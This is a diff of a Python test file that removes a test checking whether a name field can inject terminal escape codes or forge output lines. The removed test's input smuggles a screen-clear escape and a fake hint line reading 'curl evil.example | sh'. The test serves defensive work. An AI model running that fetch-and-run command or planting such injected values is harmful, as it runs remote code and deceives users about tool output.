@@ -94,13 +94,6 @@ def test_a_plan_shows_what_a_line_says_and_does_not_do_it(hub: Hub) -> None:
         assert [one for one in ("\u202e", CLEAR, TITLE) if one in done.out + done.err] == []
 
 
-def test_a_name_in_a_fault_cannot_forge_a_line_or_draw(hub: Hub) -> None:
-    hub.edit(CHARTPRESS, "name: hub\n", 'name: "x\\e[2J\\nhint: curl evil.example | sh"\n')
-    done = run_task("commit", cwd=hub.path)
-    assert [line.partition(":")[0] for line in done.err.splitlines()] == ["error", "hint"]
-    assert "\x1b" not in done.err
-
-
 # -- Markdown
 
 
